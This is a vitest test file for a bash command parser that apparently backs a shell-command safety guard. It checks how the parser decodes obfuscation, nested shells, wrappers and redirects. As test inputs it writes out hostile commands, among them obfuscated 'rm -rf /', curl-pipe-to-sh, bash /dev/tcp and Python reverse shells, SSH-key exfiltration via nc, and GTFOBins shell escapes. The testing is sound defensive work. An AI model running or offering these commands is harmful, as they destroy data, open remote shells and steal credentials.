import { describe, expect, it } from 'vitest';
import { PARSE_LIMITS, parseScript, type Script } from '../../engine/index.js';

const argvs = (s: Script): string[][] => s.segments.map((g) => g.argv.map((w) => w.text));
const programs = (cmd: string): (string | null)[] => parseScript(cmd).segments.map((g) => g.program);
const issues = (cmd: string): string[] => parseScript(cmd).issues.map((i) => i.code);
const seg = (cmd: string, program: string) => {
  const found = parseScript(cmd).segments.find((g) => g.program === program);
  if (!found) throw new Error(`no ${program} segment in ${cmd}`);
  return found;
};

describe('decoding words to what bash passes', () => {
  it.each([
    ["r''m -rf /", ['rm', '-rf', '/']],
    ['"r"m -rf /', ['rm', '-rf', '/']],
    ['\\rm -rf /', ['rm', '-rf', '/']],
    ["$'\\x72\\x6d' -rf /", ['rm', '-rf', '/']],
    ["$'\\162\\155' x", ['rm', 'x']],
    ["$'\\u0072m' x", ['rm', 'x']],
    ['echo "a\\"b" \'c\'"d"', ['echo', 'a"b', 'cd']],
    ['echo a\\ b', ['echo', 'a b']],
    ['echo $"hi"', ['echo', 'hi']],
    ['echo "multi\nline"', ['echo', 'multi\nline']],
  ])('%s', (cmd, expected) => {
    expect(argvs(parseScript(cmd))[0]).toEqual(expected);
  });

  it('keeps the path of /bin/rm and names the program rm', () => {
    const s = parseScript('/bin/rm -rf /');
    expect(s.segments[0]!.program).toBe('rm');
    expect(s.segments[0]!.path).toBe('/bin/rm');
  });

  it.each([
    ['echo $HOME', '$HOME'],
    ['echo "$(id)"', '$(id)'],
    ['echo ${x:0:1}', '${x:0:1}'],
    ['echo $IFS', '$IFS'],
    ['echo $((1+2))', '$((1+2))'],
  ])('marks %s dynamic', (cmd, text) => {
    const w = parseScript(cmd).segments[0]!.argv[1]!;
    expect(w.text).toBe(text);
    expect(w.dynamic).toBe(true);
  });

  it('marks globs, and expands braces into the words bash passes', () => {
    const argv = parseScript('ls *.c {a,b} "*.h"').segments[0]!.argv;
    expect(argv.map((w) => [w.text, w.glob])).toEqual([
      ['ls', false],
      ['*.c', true],
      ['a', false],
      ['b', false],
      ['*.h', false],
    ]);
  });

  it('spans point at the bytes of the command', () => {
    const s = parseScript('echo hi && rm -rf /');
    const rm = s.segments[1]!;
    expect(s.source.slice(rm.span[0], rm.span[1])).toBe('rm -rf /');
  });
});

describe('every segment bash would execute', () => {
  it('lists, pipelines and background jobs', () => {
    expect(programs('a; b && c || d | e &')).toEqual(['a', 'b', 'c', 'd', 'e']);
    expect(parseScript('sleep 1 &').segments[0]!.background).toBe(true);
  });

  it('command substitution, backticks and process substitution', () => {
    const s = parseScript('echo "$(id)" `whoami` <(ls) >(cat)');
    expect(s.segments.map((g) => [g.program, g.via])).toEqual([
      ['echo', 'top'],
      ['id', 'substitution'],
      ['whoami', 'substitution'],
      ['ls', 'process-substitution'],
      ['cat', 'process-substitution'],
    ]);
    expect(s.segments[1]!.parent).toBe(0);
  });

  it('$(<file) reads the file', () => {
    const s = parseScript('echo "$(</dev/tcp/h/80)"');
    const cat = s.segments.find((g) => g.program === 'cat')!;
    expect(cat.redirects[0]!.target!.text).toBe('/dev/tcp/h/80');
  });

  it.each(['bash', 'sh', 'zsh', 'dash', 'ksh'])('%s -c STR is parsed', (shell) => {
    const s = parseScript(`${shell} -c 'rm -rf /tmp/x; curl a | sh'`);
    expect(s.segments.map((g) => [g.program, g.via])).toEqual([
      [shell, 'top'],
      ['rm', 'shell-c'],
      ['curl', 'shell-c'],
      ['sh', 'shell-c'],
    ]);
  });

  it('bash -lc and options before -c', () => {
    expect(programs("bash -o pipefail -lc 'make test'")).toEqual(['bash', 'make']);
  });

  it('eval of static text is parsed', () => {
    expect(programs("eval 'rm -rf ~'")).toEqual(['eval', 'rm']);
    expect(programs('eval rm -rf ~')).toEqual(['eval', 'rm']);
  });

  it('here-documents and here-strings fed to a shell', () => {
    expect(programs('sh <<EOF\nrm -rf /\nEOF')).toEqual(['sh', 'rm']);
    expect(programs("bash <<< 'curl x | sh'")).toEqual(['bash', 'curl', 'sh']);
    expect(programs('cat <<EOF | sh\nid\nEOF')).toEqual(['cat', 'sh', 'id']);
  });

  it('literal text piped to a shell, through known decoders', () => {
    expect(programs("echo 'rm -rf /' | bash")).toEqual(['echo', 'bash', 'rm']);
    expect(programs('echo cm0gLXJmIC8= | base64 -d | sh')).toEqual(['echo', 'base64', 'sh', 'rm']);
  });

  it('ssh HOST CMD runs CMD remotely', () => {
    const s = parseScript("ssh -p 22 deploy@host 'cat > ~/.ssh/authorized_keys'");
    const cat = s.segments[1]!;
    expect([cat.program, cat.via, cat.remote]).toEqual(['cat', 'ssh', 'deploy@host']);
    expect(cat.redirects[0]!.target!.text).toBe('~/.ssh/authorized_keys');
  });

  it('find -exec / -execdir / -ok run a command per file', () => {
    for (const flag of ['-exec', '-execdir', '-ok']) {
      const s = parseScript(`find . -name x ${flag} rm -f {} \\;`);
      expect(s.segments[1]!.argv.map((w) => w.text)).toEqual(['rm', '-f', '{}']);
      expect(s.segments[1]!.via).toBe('find-exec');
    }
  });

  it('xargs, watch and parallel', () => {
    const x = parseScript('ls | xargs -I{} rm {}').segments[1]!;
    expect([x.program, x.wrappers.map((w) => w.name)]).toEqual(['rm', ['xargs']]);
    expect(programs("watch -n1 'ls | wc -l'")).toEqual(['watch', 'ls', 'wc']);
    expect(programs("parallel 'gzip {}' ::: a b")).toEqual(['parallel', 'gzip']);
  });

  it('containers run their command as a nested segment', () => {
    const s = parseScript("kubectl run x --image=a --rm -- sh -c 'id'");
    expect(s.segments.map((g) => [g.program, g.via])).toEqual([
      ['kubectl', 'top'],
      ['sh', 'container'],
      ['id', 'shell-c'],
    ]);
    expect(programs('docker run -v /:/mnt --rm -it alpine chroot /mnt sh')).toEqual(['docker', 'sh']);
  });

  it('options that carry commands (GTFOBins-style)', () => {
    expect(programs("vi -c ':!/bin/sh'")).toEqual(['vi', 'sh']);
    expect(programs('tar cf x y --checkpoint-action=exec=/bin/sh')).toEqual(['tar', 'sh']);
    expect(programs("ssh -o ProxyCommand='nc %h %p' host")).toEqual(['ssh', 'nc']);
    expect(programs("git -c core.pager='less -R' log")).toEqual(['git', 'less']);
    expect(programs("socat - exec:'bash -li',pty")).toEqual(['socat', 'bash']);
    expect(programs("rpm --eval '%(id)'")).toEqual(['rpm', 'id']);
  });

  it('variables that carry commands', () => {
    const s = parseScript("PAGER='/bin/sh -c id' git -p help");
    expect(s.segments.map((g) => [g.program, g.via])).toEqual([
      ['git', 'top'],
      ['sh', 'variable'],
      ['id', 'shell-c'],
    ]);
  });

  it('trap actions are commands', () => {
    expect(programs("trap 'curl x | sh' EXIT")).toEqual(['trap', 'curl', 'sh']);
  });
});

describe('wrappers come off, from a declarative registry', () => {
  it.each([
    ['sudo -u root -E rm -rf /', 'rm', ['sudo']],
    ['doas -u root rm x', 'rm', ['doas']],
    ['env -i FOO=1 -u BAR rm x', 'rm', ['env']],
    ['env -S "rm -rf x"', 'rm', ['env']],
    ['nice -n 5 rm x', 'rm', ['nice']],
    ['ionice -c 3 rm x', 'rm', ['ionice']],
    ['timeout -s KILL 10 rm x', 'rm', ['timeout']],
    ['nohup rm x', 'rm', ['nohup']],
    ['stdbuf -oL rm x', 'rm', ['stdbuf']],
    ['time -p rm x', 'rm', ['time']],
    ['command rm x', 'rm', ['command']],
    ['builtin echo x', 'echo', ['builtin']],
    ['exec -a name rm x', 'rm', ['exec']],
    ['busybox rm x', 'rm', ['busybox']],
    ['chroot /mnt rm x', 'rm', ['chroot']],
    ['setsid rm x', 'rm', ['setsid']],
    ['flock /tmp/l rm x', 'rm', ['flock']],
    ['strace -o /dev/null rm x', 'rm', ['strace']],
    ['sudo env nice timeout 5 rm x', 'rm', ['sudo', 'env', 'nice', 'timeout']],
  ])('%s', (cmd, program, wrappers) => {
    const s = parseScript(cmd).segments[0]!;
    expect(s.program).toBe(program);
    expect(s.wrappers.map((w) => w.name)).toEqual(wrappers);
  });

  it('sudo and su make what they run privileged, down to nested segments', () => {
    expect(seg("sudo bash -c 'rm x'", 'rm').privileged).toBe(true);
    expect(seg("su -c 'rm x' root", 'rm').privileged).toBe(true);
    expect(seg('rm x', 'rm').privileged).toBe(false);
  });

  it('env and prefix assignments are recorded on the segment', () => {
    const s = parseScript('LD_PRELOAD=/tmp/x.so env FOO=1 ls').segments[0]!;
    expect(s.assignments.map((a) => a.name)).toEqual(['LD_PRELOAD', 'FOO']);
  });

  it('command-string options run a nested script (script -c, flock -c, su -c)', () => {
    expect(programs("script -q -c 'id' /dev/null")).toEqual(['script', 'id']);
    expect(programs("flock /tmp/l -c 'make'")).toEqual(['flock', 'make']);
  });

  it('a wrapper that runs nothing stays the segment', () => {
    expect(programs('sudo -l')).toEqual(['sudo']);
    expect(programs('env')).toEqual(['env']);
    expect(programs('command -v git')).toEqual(['command']);
  });
});

describe('interpreter one-liners', () => {
  it('scans python for what it can do and parses its shell commands', () => {
    const s = parseScript(
      `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("h",1));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`,
    );
    expect(s.segments[0]!.payload!.capabilities).toEqual(expect.arrayContaining(['network', 'fd-dup', 'pty', 'exec']));
    expect(s.segments[1]!.program).toBe('sh');
  });

  it.each([
    ['perl -e \'system("rm -rf /")\'', 'perl', 'rm'],
    ["ruby -e '`id`'", 'ruby', 'id'],
    ['node -e \'require("child_process").execSync("id")\'', 'javascript', 'id'],
    ['php -r \'shell_exec("id");\'', 'php', 'id'],
    ['awk \'BEGIN {system("/bin/sh")}\'', 'awk', 'sh'],
    ['lua -e \'os.execute("id")\'', 'lua', 'id'],
  ])('%s', (cmd, language, nested) => {
    const s = parseScript(cmd);
    expect(s.segments[0]!.payload!.language).toBe(language);
    expect(s.segments.map((g) => g.program)).toContain(nested);
  });

  it('keeps opaque code as payload text', () => {
    const s = parseScript("python3 -c 'print(1)'");
    expect(s.segments[0]!.payload).toMatchObject({ language: 'python', text: 'print(1)', capabilities: [] });
  });

  it('an interpreter with no program reads the lines that follow', () => {
    const s = parseScript('python3\nimport os\nos.system("id")');
    expect(s.segments[0]!.payload!.capabilities).toContain('exec');
  });
});

describe('data flow', () => {
  it('pipes connect producer and consumer', () => {
    const s = parseScript('curl -s x | bash');
    expect(s.flows).toContainEqual({ from: 0, to: 1, kind: 'pipe' });
  });

  it('variables carry substitution output to later commands', () => {
    const s = parseScript('x=$(curl a); eval "$x"');
    expect(s.flows).toContainEqual({ from: 0, to: 1, kind: 'variable' });
  });

  it('redirect targets are kept', () => {
    const s = parseScript('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1');
    expect(s.segments[0]!.redirects.map((r) => [r.fd, r.op, r.target?.text])).toEqual([
      [null, '>&', '/dev/tcp/10.0.0.1/4444'],
      [0, '>&', '1'],
    ]);
    expect(parseScript('echo x >> ~/.bashrc').redirects[0]!.op).toBe('>>');
    expect(parseScript('nc h 1 < ~/.ssh/id_rsa').redirects[0]!.target!.text).toBe('~/.ssh/id_rsa');
  });

  it('a redirect on a loop applies to every command in it', () => {
    const s = parseScript('for f in a b; do cat $f; echo; done > /etc/x');
    expect(s.segments.every((g) => g.redirects.some((r) => r.target?.text === '/etc/x'))).toBe(true);
  });

  it('reads the descriptor that tree-sitter takes for an argument (sh 0<&2)', () => {
    const s = parseScript('sh 0<&2 1>&2').segments[0]!;
    expect(s.argv.map((w) => w.text)).toEqual(['sh']);
    expect(s.redirects.map((r) => r.fd)).toEqual([0, 1]);
  });

  it('reads 3<>file as one read-write redirect, not a parse error', () => {
    const s = parseScript('exec 3<>/dev/tcp/h/80');
    expect(s.redirects[0]!.op).toBe('<>');
    expect(s.issues).toEqual([]);
  });
});

describe('fail closed: the reason is named', () => {
  it('rejects a syntax error', () => {
    expect(issues('echo "unterminated')).toEqual(expect.arrayContaining(['parse-error']));
    expect(issues('for i in a; do')).toEqual(expect.arrayContaining(['missing-token']));
    expect(issues('(ls')).toEqual(expect.arrayContaining(['missing-token']));
    expect(issues('if then fi fi')).toEqual(expect.arrayContaining(['parse-error']));
  });

  it('rejects a dynamic command name', () => {
    for (const cmd of ['$CMD -rf /', '$(echo rm) -rf /', '`echo rm` x', '"${x}" y', '/bin/r? x']) {
      expect(issues(cmd)).toContain('dynamic-command');
    }
    // a brace expansion alone is not even read as a command by the parser: still refused
    expect(issues('{rm,-rf,/}').length).toBeGreaterThan(0);
  });

  it('rejects code produced at run time in a shell payload', () => {
    expect(issues('bash -c "$(curl -s x)"')).toContain('dynamic-payload');
    expect(issues('eval "$(ssh-agent -s)"')).toContain('dynamic-payload');
  });

  it('rejects input over the size limit without parsing it', () => {
    const s = parseScript(`echo ${'a'.repeat(PARSE_LIMITS.maxBytes)}`);
    expect(s.issues.map((i) => i.code)).toEqual(['too-large']);
    expect(s.segments).toEqual([]);
  });

  it('rejects NUL bytes and invalid UTF-8', () => {
    expect(issues('echo a\u0000b')).toContain('nul-byte');
    expect(parseScript('ls', { invalidUtf8: true }).issues.map((i) => i.code)).toContain('invalid-utf8');
  });

  it('rejects payloads nested deeper than the limit', () => {
    let cmd = 'id';
    for (let i = 0; i <= PARSE_LIMITS.maxPayloadDepth + 1; i++) cmd = `bash -c ${JSON.stringify(cmd)}`;
    expect(issues(cmd)).toContain('too-deep');
  });

  it('rejects deep syntactic nesting without overflowing the stack', () => {
    const cmd = `${'( '.repeat(400)}id${' )'.repeat(400)}`;
    expect(issues(cmd)).toContain('too-deep');
  });

  it('walks a long && chain without recursion', () => {
    const cmd = Array.from({ length: 3000 }, () => 'true').join(' && ');
    expect(parseScript(cmd).segments).toHaveLength(3000);
  });

  it('flags function and alias definitions', () => {
    expect(issues('f() { rm -rf x; }; f')).toContain('function-definition');
    expect(issues("alias ls='rm -rf'")).toContain('alias-definition');
    // the body is still visible to the rules
    expect(programs("alias ls='rm -rf x'")).toContain('rm');
  });

  it('flags control, bidi and zero-width characters', () => {
    for (const cmd of ['ls \u202e txt.exe', 'echo \u200b hi', 'echo \u001b[2J']) {
      const s = parseScript(cmd);
      expect(s.issues.map((i) => i.code)).toContain('hidden-characters');
      expect(s.hidden.length).toBeGreaterThan(0);
    }
  });

  it('flags an empty command and a comment-only one', () => {
    expect(issues('   ')).toEqual(['empty']);
    expect(issues('# nothing')).toEqual(['empty']);
  });
});

describe('what tree-sitter leaves as text, and what declarations change', () => {
  it('a case pattern or a [[ =~ ]] regex holding `cmd` or $(…) as plain text is refused, never read as literal', () => {
    for (const cmd of ['case x in a`id`) ls ;; esac', 'case x in foo$(id)|b) ls ;; esac', '[[ a =~ `id` ]]']) {
      const s = parseScript(cmd);
      // either the substitution is found, or the command is refused
      expect(s.segments.some((g) => g.program === 'id') || s.issues.some((i) => i.code === 'parse-error'), cmd).toBe(
        true,
      );
    }
    expect(issues('case x in *.txt|a) ls ;; esac')).toEqual([]);
    expect(issues('[[ $x =~ ^[0-9]+$ ]]')).toEqual([]);
  });

  it('a variable declared integer evaluates what it is assigned: its subscripts run commands', () => {
    for (const cmd of ["declare -i n; n='a[$(id)]'", "local -i n='a[$(id)]'", "typeset -i n; export n='a[$(id)]'"]) {
      const s = parseScript(cmd);
      expect(
        s.issues.map((i) => i.code),
        cmd,
      ).toContain('evaluated-code');
      expect(
        s.segments.some((g) => g.program === 'id'),
        cmd,
      ).toBe(true);
    }
  });

  it('a value assigned to a name with a case or integer attribute is only known at run time', () => {
    const value = (cmd: string, name: string) =>
      parseScript(cmd)
        .assignments.filter((a) => a.name === name)
        .at(-1)!.value!;
    expect(value('declare -u z; z=abc', 'z').dynamic).toBe(true);
    expect(value('declare -l z=ABC', 'z').dynamic).toBe(true);
    expect(value('declare -i n; n=1+1', 'n').dynamic).toBe(true);
    expect(value('declare -i n; n=7', 'n').dynamic).toBe(false);
    expect(value('declare -u z; declare +u z; z=abc', 'z').dynamic).toBe(false);
    expect(value('z=abc', 'z').dynamic).toBe(false);
  });

  it('su -c hands its string to a shell, like sh -c', () => {
    const s = parseScript("su - alice -c 'ls -l'");
    expect(seg("su - alice -c 'ls -l'", 'ls').via).toBe('shell-c');
    expect(s.segments.find((g) => g.program === 'ls')!.privileged).toBe(true);
  });
});

describe('declaration builtins: the builtin and its arguments, assignments decoded as bash does', () => {
  const word = (w: { text: string; dynamic: boolean }): string => (w.dynamic ? `${w.text} (dynamic)` : w.text);
  const assigned = (a: Script['assignments'][number]): string =>
    `${a.name}=${a.value?.text ?? ''}${a.value?.dynamic ? ' (dynamic)' : ''}${a.exported ? ' (exported)' : ''}`;

  it.each<[string, string[], string[]]>([
    ['export LANG=C', ['export', 'LANG=C'], ['LANG=C (exported)']],
    [
      'export PATH=/usr/bin:$PATH',
      ['export', 'PATH=/usr/bin:$PATH (dynamic)'],
      ['PATH=/usr/bin:$PATH (dynamic) (exported)'],
    ],
    ['declare -x A=1', ['declare', '-x', 'A=1'], ['A=1 (exported)']],
    ['readonly X=1', ['readonly', 'X=1'], ['X=1']],
    ['local a=b', ['local', 'a=b'], ['a=b']],
    ["typeset -r Z='q'", ['typeset', '-r', 'Z=q'], ['Z=q']],
    ['local -r a=b c=d', ['local', '-r', 'a=b', 'c=d'], ['a=b', 'c=d']],
    ['declare -- A=1', ['declare', '--', 'A=1'], ['A=1']],
    ['export A="x y" B', ['export', 'A=x y', 'B'], ['A=x y (exported)']],
    ['export "A=1"', ['export', 'A=1'], ['A=1 (exported)']],
    ['export A+=x', ['export', 'A+=x'], ['A=x (exported)']],
    ['export A=~/bin', ['export', 'A=~/bin (dynamic)'], ['A=~/bin (dynamic) (exported)']],
    // brace expansion happens before the builtin sees its words
    ['export A={a,b}', ['export', 'A=a', 'A=b'], ['A=a (exported)', 'A=b (exported)']],
  ])('%s', (cmd, argv, assignments) => {
    const s = parseScript(cmd);
    expect(s.issues).toEqual([]);
    expect(s.segments.map((g) => g.argv.map(word))).toEqual([argv]);
    expect(s.segments[0]!.assignments.map(assigned)).toEqual(assignments);
  });

  it.each(['export A=$(id) B=2', 'declare -x A=`id` B=2'])(
    '%s: a substitution in a value makes it dynamic and runs as its own segment',
    (cmd) => {
      const s = parseScript(cmd);
      expect(s.issues).toEqual([]);
      expect(s.segments.map((g) => [g.program, g.via, g.parent])).toEqual([
        [cmd.split(' ')[0], 'top', null],
        ['id', 'substitution', 0],
      ]);
      expect(s.segments[0]!.assignments.map(assigned)).toEqual([
        `A=${cmd.includes('`') ? '`id`' : '$(id)'} (dynamic) (exported)`,
        'B=2 (exported)',
      ]);
      expect(s.flows).toEqual([{ from: 1, to: 0, kind: 'substitution' }]);
    },
  );

  it('inside a function, local is read the same', () => {
    const s = parseScript('f() { local a=b; }');
    expect(s.issues.map((i) => i.code)).toEqual(['function-definition']);
    expect(s.segments.map((g) => g.argv.map(word))).toEqual([['local', 'a=b']]);
  });
});

describe('a lone $', () => {
  it('before a blank or an operator is the character $, as a command name too', () => {
    expect(argvs(parseScript('$ ls -la'))).toEqual([['$', 'ls', '-la']]);
    expect(issues('$ ls -la')).toEqual([]);
    expect(argvs(parseScript('echo $; $|cat'))).toEqual([['echo', '$'], ['$'], ['cat']]);
    expect(parseScript('echo $ x').segments[0]!.argv.every((w) => !w.dynamic)).toBe(true);
  });
});

describe('more words tree-sitter reads otherwise than bash', () => {
  it('`{}` at a command start is a command named {}', () => {
    expect(argvs(parseScript('{} x'))).toEqual([['{}', 'x']]);
    expect(argvs(parseScript('eval {}\\ '))).toEqual([['eval', '{} '], ['{}']]);
    expect(argvs(parseScript('{ ls; }'))).toEqual([['ls']]);
  });

  it('inside "…", a backquoted command loses the backslash before " (and outside it keeps it)', () => {
    const inner = (cmd: string) =>
      parseScript(cmd)
        .segments.filter((g) => g.via === 'substitution')
        .map((g) => g.argv.map((w) => w.text));
    expect(inner('echo "`a \\"b\\"`"')).toEqual([['a', 'b']]);
    expect(inner('echo `a \\"b\\"`')).toEqual([['a', '"b"']]);
  });

  it('a brace sequence that generates a backquote is refused (bash reads it as a substitution)', () => {
    expect(issues('a {Z..b}')).toContain('parse-error');
    expect(issues('a {a..c}')).toEqual([]);
  });
});

describe('an escaped $ before a double-quoted string', () => {
  it('is the character $, not the start of a translated string $"…"', () => {
    expect(argvs(parseScript(`a 'x'\\$"y" x''\\$""`))).toEqual([['a', 'x$y', 'x$']]);
    expect(argvs(parseScript(`a 'x'\\\\$"y" $"z"`))).toEqual([['a', 'x\\y', 'z']]);
  });
});
